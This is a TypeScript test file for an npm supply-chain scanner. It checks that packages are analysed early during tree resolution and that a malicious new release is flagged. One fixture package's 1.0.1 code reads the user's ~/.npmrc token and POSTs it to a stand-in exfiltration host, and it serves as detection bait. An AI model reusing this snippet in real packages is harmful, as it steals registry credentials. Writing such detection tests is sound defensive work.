import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { publish } from 'libnpmpublish';
import { create } from 'tar';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import type { Report } from '../../src/report/build.js';
import { startFaultProxy } from '../hostile/fault-proxy.js';
import { isolatedHome, runCli } from './cli.js';

const registry = inject('registryUrl');
const ROOT = 'early-fan-root';
const DEPENDENCIES = Array.from({ length: 18 }, (_, i) => `early-fan-dep-${String(i + 1).padStart(2, '0')}`);
/** The dependency whose document the registry is slow to send: the tree is not known until it arrives. */
const SLOW = DEPENDENCIES[17] as string;
/** The one whose latest release adds a token theft, to be reported as new in it. */
const THIEF = DEPENDENCIES[3] as string;
const SLOW_MS = 1500;
const TARBALL = /\/-\/.*\.tgz$/;

async function publishPackage(manifest: Record<string, unknown>, code: string): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'ocellus-early-'));
  mkdirSync(join(dir, 'package'));
  writeFileSync(join(dir, 'package', 'package.json'), JSON.stringify({ main: 'index.js', ...manifest }));
  writeFileSync(join(dir, 'package', 'index.js'), code);
  await create({ gzip: true, cwd: dir, file: join(dir, 'out.tgz') }, ['package']);
  await publish(manifest, readFileSync(join(dir, 'out.tgz')), { registry, defaultTag: 'latest' });
}

beforeAll(async () => {
  for (const name of DEPENDENCIES) {
    await publishPackage({ name, version: '1.0.0' }, `module.exports = (a, b) => a + b; // ${name}`);
    await publishPackage(
      { name, version: '1.0.1' },
      name === THIEF
        ? `const fs = require('fs'), os = require('os'), path = require('path');
           const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
           fetch('https://collect.example-exfil.invalid/t', { method: 'POST', body: token });
           module.exports = (a, b) => a + b;`
        : `module.exports = (a, b) => b + a; // ${name}`,
    );
  }
  await publishPackage(
    {
      name: ROOT,
      version: '1.0.0',
      dependencies: Object.fromEntries(DEPENDENCIES.map((n) => [n, '^1.0.0'])),
    },
    'module.exports = {};',
  );
});

/** A scan of the fan through a registry slow to send one document, with npm's cache and the analyses empty. */
async function slowScan(env: Record<string, string>) {
  const proxy = await startFaultProxy(registry, [{ path: new RegExp(`^/${SLOW}$`), delayMs: SLOW_MS }]);
  try {
    const result = await runCli(['scan', ROOT, '--registry', proxy.url, '--format', 'json', '--no-cache'], {
      home: isolatedHome(),
      env,
    });
    const slowAsked = proxy.arrivals.find((arrival) => arrival.path === `/${SLOW}`)?.at ?? Number.NaN;
    const tarballs = proxy.arrivals.filter((arrival) => TARBALL.test(arrival.path));
    return {
      ...result,
      report: JSON.parse(result.stdout) as Report,
      tarballs: tarballs.map((arrival) => arrival.path).sort(),
      // Tarballs asked for while the slow document was still on its way: before the tree could be known.
      beforeTree: tarballs.filter((arrival) => arrival.at < slowAsked + SLOW_MS - 200).length,
    };
  } finally {
    await proxy.stop();
  }
}

describe('packages analysed while the tree is resolved', () => {
  it('start before the resolution ends, are each downloaded once, and report what a scan after it reports', async () => {
    const [early, after] = await Promise.all([
      slowScan({ OCELLUS_WORKERS: '2' }),
      slowScan({ OCELLUS_WORKERS: '2', OCELLUS_EARLY: '0' }),
    ]);
    expect(after.beforeTree).toBe(0);
    expect(early.beforeTree).toBeGreaterThan(0);
    // Every tarball of the tree and of the releases compared, once: no early work thrown away and done again.
    expect(early.tarballs).toEqual(after.tarballs);
    expect(new Set(early.tarballs).size).toBe(early.tarballs.length);
    expect(early.tarballs).toHaveLength(1 + DEPENDENCIES.length * 2);
    expect(early.code).toBe(1);
    expect(early.report.packages).toEqual(after.report.packages);
    const thief = early.report.packages.find((pkg) => pkg.name === THIEF);
    expect(thief?.version).toBe('1.0.1');
    // The version diff ran on the early path: the theft is new in 1.0.1, compared with 1.0.0.
    expect(thief?.findings).toContainEqual(
      expect.objectContaining({ severity: 'critical', message: expect.stringContaining('New in 1.0.1') }),
    );
  });
});
